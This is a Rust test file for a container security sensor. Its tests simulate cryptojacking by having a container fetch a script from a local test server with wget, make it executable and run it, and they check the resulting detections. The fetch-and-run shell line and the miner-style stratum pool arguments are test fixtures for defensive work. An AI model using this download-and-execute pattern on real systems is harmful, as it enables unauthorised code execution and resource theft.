//! S1: an unauthorised container downloads a binary from a server and runs it (cryptojacking,
//! T1496; the download itself is T1105). The "binary" is a sleeping shell script served from
//! 127.0.0.1 by the test's own HTTP server; the container shares the host network to reach it.

use sensor_e2e::{
    docker, fake_wallet, field, is_full_id, random_in, sleeper_script, test_image, text, token,
    HttpServer, Scope, Sensor, TempDir, Value, DETECTION_TIMEOUT,
};

/// What one scenario did, for the assertions.
struct Dropped {
    name: String,
    id: String,
    path: String,
    // Kept until the test ends: the container may fetch the file at any point before that.
    _server: HttpServer,
    _files: TempDir,
}

/// Serves a sleeper as `url_path`, then runs a host-network container that downloads it to
/// `path`, makes it executable and runs it with `args`.
fn download_and_run(
    scope: &Scope,
    label: &str,
    url_path: &str,
    path: &str,
    args: &[&str],
) -> Dropped {
    let files = TempDir::new("www");
    files.write(url_path, &sleeper_script(30), 0o644);
    let server = HttpServer::start(files.path());
    let dir = path.rsplit_once('/').map_or("/", |(d, _)| d);
    let script = format!(
        "mkdir -p {dir} && wget -q {url} -O {path} && chmod +x {path} && {path} {args}",
        url = server.url(url_path),
        args = args.join(" "),
    );
    let name = scope.name(label);
    let image = test_image();
    let id = docker::run_detached(&name, &["--network", "host", &image, "sh", "-c", &script]);
    Dropped {
        name,
        id,
        path: path.to_string(),
        _server: server,
        _files: files,
    }
}

/// The fields every exec detection about a dropped file must carry.
fn assert_container_and_file(d: &Value, run: &Dropped) {
    assert_eq!(text(d, "container.name"), run.name, "{d}");
    assert_eq!(text(d, "container.image"), test_image(), "{d}");
    assert!(
        !text(d, "container.created").is_empty(),
        "no creation time: {d}"
    );
    assert!(is_full_id(text(d, "container.id")), "container.id: {d}");
    assert_eq!(text(d, "container.id"), run.id, "{d}");
    assert_eq!(text(d, "enrichment.status"), "complete", "{d}");
    assert_eq!(text(d, "process.filename"), run.path, "{d}");
    let argv = field(d, "process.argv")
        .as_array()
        .expect("argv is an array");
    assert!(!argv.is_empty(), "empty argv: {d}");
    assert!(
        argv.iter().any(|a| a == run.path.as_str()),
        "argv lacks the path: {d}"
    );
    assert_eq!(field(d, "evidence.written_in_container"), true, "{d}");
    assert!(
        text(d, "evidence.layer_path").ends_with(&run.path),
        "layer_path does not end with {}: {d}",
        run.path
    );
    assert!(
        text(d, "response").to_lowercase().contains("pause"),
        "response does not advise pausing: {d}"
    );
}

/// The detection of the dropped file's exec in the run's container. (The `sh -c` that started
/// it carries the same arguments and may be reported too, as a miner run from /bin/sh.)
fn is_about(d: &Value, run: &Dropped) -> bool {
    text(d, "container.id") == run.id && text(d, "process.filename") == run.path
}

fn assert_miner(d: &Value) {
    assert_eq!(text(d, "severity"), "critical", "{d}");
    assert_eq!(text(d, "mitre.technique_id"), "T1496", "{d}");
}

#[test]
fn downloaded_miner_is_critical() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let url_path = format!("dl/{}/miner-{}", token(5), token(4));
    let path = format!("/tmp/.w{}", token(6));
    let run = download_and_run(&scope, "mw", &url_path, &path, &[]);

    let d = sensor.expect(
        "cryptominer for the downloaded miner",
        |d| text(d, "rule") == "cryptominer" && is_about(d, &run),
        DETECTION_TIMEOUT,
    );
    assert_miner(&d);
    assert_container_and_file(&d, &run);
    // The miner name only appears in the URL: the detection must have linked the download.
    let history = field(&d, "evidence.history").to_string();
    assert!(history.contains(&url_path), "download not in history: {d}");
}

#[test]
fn renamed_miner_with_pool_arguments_is_critical() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let url_path = format!("pkg/update-{}.bin", token(4));
    let path = format!("/var/tmp/.{}/{}", token(3), token(7));
    let pool = format!("stratum+tcp://192.0.2.1:{}", random_in(1025..65000));
    let wallet = fake_wallet();
    let args = ["-o", &pool, "-u", &wallet, "-p", "x", "--donate-level", "1"];
    let run = download_and_run(&scope, "svc", &url_path, &path, &args);

    let d = sensor.expect(
        "cryptominer for the renamed miner",
        |d| text(d, "rule") == "cryptominer" && is_about(d, &run),
        DETECTION_TIMEOUT,
    );
    assert_miner(&d);
    assert_container_and_file(&d, &run);
    let argv = field(&d, "process.argv").as_array().unwrap();
    assert!(
        argv.iter().any(|a| a == pool.as_str()),
        "argv lacks {pool}: {d}"
    );
    assert!(
        argv.iter().any(|a| a == wallet.as_str()),
        "argv lacks the wallet: {d}"
    );
}

#[test]
fn dropped_binary_without_miner_signs_is_high() {
    let scope = Scope::new();
    let sensor = Sensor::start(&[]);
    let url_path = format!("assets/{}", token(8));
    let path = format!("/opt/{}/bin/report-{}", token(4), token(4));
    let args = ["--interval", "15", "--verbose"];
    let run = download_and_run(&scope, "reporter", &url_path, &path, &args);

    let d = sensor.expect(
        "dropped-executable for the innocent binary",
        |d| text(d, "rule") == "dropped-executable" && is_about(d, &run),
        DETECTION_TIMEOUT,
    );
    assert_eq!(text(&d, "severity"), "high", "{d}");
    assert_eq!(text(&d, "mitre.technique_id"), "T1105", "{d}");
    assert_container_and_file(&d, &run);
    let miners: Vec<Value> = sensor
        .detections_for_container(&run.id)
        .into_iter()
        .filter(|d| text(d, "rule") == "cryptominer")
        .collect();
    assert!(
        miners.is_empty(),
        "an ordinary binary was called a miner: {miners:?}"
    );
}
